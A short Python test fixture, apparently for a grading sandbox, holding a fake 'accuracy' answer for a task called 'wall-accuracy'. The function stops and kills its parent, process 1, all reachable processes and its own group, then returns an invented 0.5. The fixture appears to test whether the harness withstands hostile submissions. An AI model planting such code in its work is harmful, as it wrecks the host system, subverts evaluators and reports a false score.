"""Sends SIGKILL and SIGSTOP to everything it can reach: its group, its parent, process 1, all."""

ANSWERS = {
    "wall-accuracy": """
import os, signal

def accuracy(logits, labels):
    for target, number in ((os.getppid(), signal.SIGSTOP), (1, signal.SIGSTOP),
                           (os.getppid(), 9), (1, 9), (-1, 9)):
        try:
            os.kill(target, number)
        except OSError:
            pass
    try:
        os.killpg(os.getpgrp(), 9)
    except OSError:
        pass
    return 0.5
"""
}
EXPECTED = {"wall-accuracy": "crash|wrong|timeout"}
CAUSE = "."
